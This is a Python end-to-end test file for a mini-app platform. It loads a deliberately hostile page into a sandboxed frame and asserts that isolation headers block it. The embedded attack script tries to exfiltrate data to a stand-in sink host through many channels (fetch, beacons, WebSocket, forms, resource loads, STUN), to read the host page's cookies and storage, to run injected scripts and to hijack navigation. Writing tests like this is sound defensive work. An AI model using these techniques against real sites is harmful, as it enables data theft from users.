"""A mini-app that attacks, in a real browser, against the headers it is really served with.

Each attack is tried by the page's own script inside the frame; a sink counts what leaves the
browser. No attack may reach the sink, the host, or another window.
"""

import hashlib
import http.server
import json
import os
import socket
import subprocess
import sys
import threading
import time

import pytest

from config.supervisor.plan import ROOT
from miniapps.publish.index import Source, build
from miniapps.storage import Store

pytestmark = pytest.mark.e2e

ATTACKER_HTML = b"""<!doctype html><html><head><meta charset="utf-8"><title>attacker</title></head>
<body onload="window.handlerRan = true">
<img src="x" onerror="window.errorHandlerRan = true">
<a id="top" target="_top" href="http://sink.localhost:SINK/top-link">t</a>
<a id="blank" target="_blank" href="http://sink.localhost:SINK/blank-link">b</a>
<script src="attack.js"></script></body></html>
"""
ATTACK_JS = r"""
const sink = (name) => `http://${name}.sink.localhost:SINK/${name}`;
const results = {};
const note = (name, value) => { results[name] = value; };
const tries = async (name, work) => {
  try { note(name, ["did", String(await work())]); }
  catch (error) { note(name, ["threw", String(error.name || error)]); }
};
const soon = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no(new Error("late")), 1500))]);
const put = (tag, fields, where = document.head) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(fields)) element.setAttribute(name, value);
  where.append(element);
  return element;
};
async function attack() {
  await tries("host-document", () => top.document.title);
  await tries("host-storage", () => top.localStorage.length);
  await tries("host-global", () => top.secret);
  await tries("frame-element", () => window.frameElement);
  await tries("cookie", () => document.cookie);
  await tries("agent-cluster", () => window.originAgentCluster);
  await tries("document-domain", () => { document.domain = "localhost"; return document.domain; });
  await tries("referrer", () => document.referrer);
  await tries("shared-memory", () => typeof SharedArrayBuffer);
  await tries("eval", () => eval("1+1"));
  await tries("function", () => new Function("return 2")());
  await tries("timer", () => { setTimeout("window.timerRan = true", 0); return "set"; });
  put("script", {}).textContent = "window.inlineRan = true";
  put("script", { src: "data:text/javascript,window.dataRan=true" });
  put("script", { src: URL.createObjectURL(new Blob(["window.blobRan=true"])) });
  put("a", { href: "javascript:window.urlRan=true" }, document.body).click();
  await tries("data-import", () => import("data:text/javascript,export default 1"));
  await tries("worker", () => soon(new Promise((yes, no) => {
    const worker = new Worker("attack.js"); worker.onerror = () => no(new Error("refused"));
  })));
  await tries("blob-worker", () => soon(new Promise((yes, no) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = yes; worker.onerror = () => no(new Error("refused"));
  })));
  await tries("service-worker", () => navigator.serviceWorker.register("/attack.js"));
  await tries("service-worker-pinned", () => navigator.serviceWorker.register(document.querySelector("script[src*=attack]").src));
  put("base", { href: sink("base") + "/" });
  put("img", { src: "relative-after-base.png" }, document.body);
  await tries("fetch", () => fetch(sink("fetch")));
  await tries("fetch-post", () => fetch(sink("post"), { method: "POST", mode: "no-cors", keepalive: true, body: "x" }));
  await tries("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", sink("xhr"), false); x.send(); return x.status; });
  await tries("socket", () => soon(new Promise((yes, no) => { const s = new WebSocket(sink("socket").replace("http", "ws")); s.onopen = yes; s.onerror = () => no(new Error("refused")); })));
  await tries("events", () => soon(new Promise((yes, no) => { const s = new EventSource(sink("events")); s.onopen = yes; s.onerror = () => no(new Error("refused")); })));
  await tries("beacon", () => navigator.sendBeacon(sink("beacon"), "x") && "queued");
  await tries("transport", async () => { const t = new WebTransport("https://transport.sink.localhost:SINK/"); await soon(t.ready); return "open"; });
  await tries("host-api", () => fetch("http://host.localhost:HOSTPORT/secret.json", { credentials: "include" }));
  put("script", { src: "http://host.localhost:HOSTPORT/secret.json" });
  put("img", { src: sink("img") }, document.body);
  put("img", { srcset: sink("srcset") + " 1x" }, document.body);
  put("video", { src: sink("video"), poster: sink("poster"), autoplay: "" }, document.body);
  put("link", { rel: "stylesheet", href: sink("stylesheet") });
  for (const rel of ["prefetch", "modulepreload", "icon", "manifest", "prerender"]) put("link", { rel, href: sink(rel) });
  put("link", { rel: "preload", as: "image", href: sink("preload") });
  put("style", {}).textContent = `@import url(${sink("import")}); body{background:url(${sink("background")})}
    @font-face{font-family:x;src:url(${sink("font")})} body{font-family:x} a[href]{list-style:url(${sink("attribute")})}`;
  document.body.insertAdjacentHTML("beforeend", `<svg><image href="${sink("svg-image")}"/><use href="${sink("svg-use")}#a"/></svg>`);
  put("script", { src: sink("script") });
  put("script", { src: sink("module"), type: "module" });
  await tries("import", () => import(sink("dynamic-import")));
  put("script", { type: "speculationrules" }).textContent = JSON.stringify({ prefetch: [{ urls: [sink("speculation")] }] });
  put("object", { data: sink("object") }, document.body);
  put("embed", { src: sink("embed") }, document.body);
  put("iframe", { src: sink("iframe") }, document.body);
  put("iframe", { src: "http://host.localhost:HOSTPORT/" }, document.body);
  put("iframe", { srcdoc: "<script>parent.srcdocRan=true<\/script>" }, document.body);
  const form = put("form", { action: sink("form"), method: "post", target: "inner" }, document.body);
  put("iframe", { name: "inner" }, document.body); form.submit();
  const topForm = put("form", { action: sink("top-form"), target: "_top" }, document.body);
  await tries("top-form", () => { topForm.submit(); return "sent"; });
  await tries("peer", async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.sink.localhost:SINK" }] });
    peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); return "offered";
  });
  await tries("top-navigation", () => { top.location = sink("top"); return "went"; });
  document.getElementById("top").click();
  await tries("popup", () => window.open(sink("popup")) === null ? "nothing" : "opened");
  document.getElementById("blank").click();
  await tries("alert", () => alert("PIN?"));
  await tries("prompt", () => prompt("PIN?"));
  await tries("full-screen", () => soon(document.documentElement.requestFullscreen()));
  await tries("camera", () => soon(navigator.mediaDevices.getUserMedia({ video: true })));
  await tries("location", () => soon(new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, () => no(new Error("refused"))))));
  await tries("clipboard", () => soon(navigator.clipboard.readText()));
  await tries("notification", () => soon(Notification.requestPermission()));
  await tries("features", () => document.featurePolicy.allowedFeatures().filter((name) => !name.startsWith("ch-")).join(" "));
  put("a", { download: "x.txt", href: URL.createObjectURL(new Blob(["x"])) }, document.body).click();
  const relative = await fetch("/own.txt").then((r) => r.text());
  await new Promise((yes) => setTimeout(yes, 800));
  note("ran", ["handlerRan", "errorHandlerRan", "timerRan", "inlineRan", "dataRan", "blobRan", "urlRan", "srcdocRan"].filter((name) => window[name]));
  note("own", relative);
  parent.postMessage(results, "*");
}
attack().catch((error) => parent.postMessage({ failed: String(error) }, "*"));
"""
LEAVE_HTML = b"""<!doctype html><head><meta charset="utf-8"><title>leaver</title>
<meta http-equiv="refresh" content="0;url=http://refresh.sink.localhost:SINK/refresh"></head>
<script src="leave.js"></script>"""
LEAVE_JS = b"""location.href = "http://leave.sink.localhost:SINK/leave";"""
HOST_PAGE = """<!doctype html><meta charset="utf-8"><title>host</title>
<script>window.secret = "s"; window.got = null;
addEventListener("message", (e) => { if (e.origin === "%(app)s" && e.data && (e.data.ran || e.data.failed)) window.got = e.data; });
let beats = 0; setInterval(() => { window.beats = ++beats; }, 50);</script>
<iframe id="app" src="%(app)s/%(path)s?bnv=%(digest)s" sandbox="allow-scripts allow-same-origin allow-forms"
 allow="" referrerpolicy="no-referrer"></iframe>"""


class Sink(http.server.ThreadingHTTPServer):
    """Counts every connection and request; also the host page, under another name."""

    daemon_threads = True
    pages: dict[str, str]

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), SinkHandler)
        self.seen: list[str] = []
        self.pages = {}
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return self.server_address[1]


class SinkHandler(http.server.BaseHTTPRequestHandler):
    server: Sink

    def do_GET(self) -> None:
        name = self.headers["Host"].partition(":")[0]
        if not name.startswith("host."):
            self.server.seen.append(f"{self.command} {name}{self.path}")
        body = self.server.pages.get(self.path if name == "host.localhost" else "", "1").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Access-Control-Allow-Origin", "*")
        if name == "host.localhost":
            self.send_header("X-Frame-Options", "SAMEORIGIN")
            self.send_header("Cross-Origin-Resource-Policy", "same-origin")
            self.send_header("Set-Cookie", "session=host-secret; SameSite=Lax")
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815 - the name http.server looks for

    def log_message(self, *_args: object) -> None:
        pass


@pytest.fixture(scope="module")
def sink():
    server = Sink()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def udp():
    """Where a STUN packet would arrive."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
        receiver.bind(("127.0.0.1", 0))
        receiver.setblocking(False)
        yield receiver


@pytest.fixture(scope="module")
def app(tmp_path_factory, sink, udp):
    """The assets process with the attacker; gives its origin and the version's digits."""
    folder = tmp_path_factory.mktemp("isolation")
    store = Store(folder / "store")
    ports = {b"SINK": sink.port, b"HOSTPORT": sink.port}
    stun = ATTACK_JS.encode().replace(
        b"stun.sink.localhost:SINK", b"127.0.0.1:%d" % udp.getsockname()[1]
    )
    files = {
        "index.html": (ATTACKER_HTML, "text/html; charset=utf-8"),
        "attack.js": (stun, "text/javascript; charset=utf-8"),
        "leave.html": (LEAVE_HTML, "text/html; charset=utf-8"),
        "leave.js": (LEAVE_JS, "text/javascript; charset=utf-8"),
        "own.txt": (b"mine", "text/plain; charset=utf-8"),
        "evil.svg": (
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>document.title='ran'</script></svg>",
            "image/svg+xml; charset=utf-8",
        ),
    }
    sources = []
    for path, (data, kind) in files.items():
        for name, port in ports.items():
            data = data.replace(name, str(port).encode())  # noqa: PLW2901
        sources.append(Source(path, store.put([data]), kind))
    digest = hashlib.sha256(b"attacker").hexdigest()
    build(store, digest=digest, files=sources, manifest={}, relaxations=())
    versions = {digest[:16]: {"digest": digest, "until": None}}
    record = {"app": "app_1", "status": "live", "versions": versions, "default": digest[:16]}
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    environ = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "BARNAMAK_STORE": str(store.root),
        "BARNAMAK_ORIGIN": f"http://host.localhost:{sink.port}",
        "BARNAMAK_APPS_DOMAIN": f"apps.localhost:{port}",
        "BENCH_ROUTES": json.dumps({"attacker": record}),
        "BENCH_BODY": os.devnull,
    }
    command = [sys.executable, "-m", "granian", "--interface", "wsgi", "--no-ws", "--workers", "1"]
    command += ["--log-level", "warning", "--port", str(port), "bench.standing:assets"]
    process = subprocess.Popen(command, env=environ)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), 1).close()
            break
        except OSError:
            time.sleep(0.05)
    yield {"origin": f"http://attacker.apps.localhost:{port}", "digest": digest[:16]}
    process.terminate()
    process.wait()


@pytest.fixture
def page(browser_type, browser_type_launch_args, app):
    # Names below localhost are secure contexts in every Chromium, as production is: nothing is
    # refused for the lack of TLS alone, and the browser tells what a request is for.
    arguments = [
        *browser_type_launch_args["args"],
        "--host-resolver-rules=MAP *.localhost 127.0.0.1",
    ]
    browser = browser_type.launch(**{**browser_type_launch_args, "args": arguments})
    context = browser.new_context()
    context.grant_permissions([])
    yield context.new_page()
    browser.close()


def open_app(page, sink, app, path=""):
    sink.pages["/"] = HOST_PAGE % {"app": app["origin"], "digest": app["digest"], "path": path}
    sink.seen.clear()
    page.goto(f"http://host.localhost:{sink.port}/")


@pytest.fixture
def attacked(page, sink, app, udp):
    """What the attacker reports after trying everything, and what was seen from outside."""
    seen = {"dialogs": [], "downloads": [], "pages": []}
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("download", lambda it: seen["downloads"].append(it.suggested_filename))
    page.context.on("page", lambda it: seen["pages"].append(it.url))
    open_app(page, sink, app)
    page.wait_for_function("window.got !== null", timeout=40_000)
    seen["results"] = page.evaluate("window.got")
    seen["url"] = page.url
    seen["beats"] = page.evaluate("window.beats")
    try:
        seen["udp"] = udp.recv(100)
    except BlockingIOError:
        seen["udp"] = b""
    return seen


REFUSED = [
    "host-document", "host-storage", "host-global", "eval", "function", "data-import", "worker",
    "blob-worker", "service-worker", "service-worker-pinned", "fetch", "fetch-post", "xhr",
    "socket", "events", "transport", "host-api", "import", "top-navigation", "full-screen",
    "camera", "location", "clipboard",
]  # fmt: skip


def test_everything_a_mini_app_tries_fails(attacked, sink, page):
    results = attacked["results"]

    assert "failed" not in results, results
    # The page itself works: its own script ran and its own file came.
    assert results["own"] == "mine"
    for name in REFUSED:
        assert results[name][0] == "threw", (name, results[name])
    assert results["ran"] == []
    assert results["frame-element"] == ["did", "null"]
    assert "host-secret" not in results["cookie"][1]
    assert results["agent-cluster"] == ["did", "true"]
    assert results["document-domain"] != ["did", "localhost"]
    assert results["referrer"] == ["did", ""]
    assert results["shared-memory"] == ["did", "undefined"]
    assert results["popup"] == ["did", "nothing"]
    assert results["prompt"] == ["did", "null"]
    assert results["features"] == ["did", ""]
    assert results["notification"][1] in {"denied", "NotAllowedError", "default", "Error"}
    assert sink.seen == []
    assert attacked["udp"] == b""
    assert attacked["dialogs"] == attacked["downloads"] == attacked["pages"] == []
    assert attacked["url"] == f"http://host.localhost:{sink.port}/"
    assert attacked["beats"] > 5
    # The sink does hear what may leave: the host page asks it once.
    page.evaluate(f"fetch('http://control.sink.localhost:{sink.port}/x').then(r => r.text())")
    assert sink.seen == ["GET control.sink.localhost/x"]


def test_a_frame_cannot_take_itself_elsewhere(page, sink, app):
    open_app(page, sink, app, "leave.html")
    page.wait_for_timeout(2500)

    assert sink.seen == []
    assert page.url == f"http://host.localhost:{sink.port}/"


def test_another_page_cannot_frame_the_app(page, sink, app):
    sink.pages["/"] = "<title>other</title>"
    page.goto(f"http://evil.localhost:{sink.port}/")
    page.set_content(f'<iframe src="{app["origin"]}/?bnv={app["digest"]}"></iframe>')
    deadline = time.monotonic() + 30
    while page.frames[-1].url in {"", "about:blank"}:  # not decided yet
        assert time.monotonic() < deadline
        page.wait_for_timeout(30)

    (framed,) = page.frames[1:]
    assert framed.url.startswith("chrome-error:")


def test_a_picture_opened_alone_runs_no_script(page, app):
    page.goto(f"{app['origin']}/~v/{app['digest']}/evil.svg")

    assert page.title() != "ran"
    assert page.evaluate("document.rootElement.tagName") == "svg"


def test_a_page_opened_alone_leads_to_the_host(page, sink, app):
    page.goto(f"{app['origin']}/")

    assert page.url == f"http://host.localhost:{sink.port}/a/app_1"
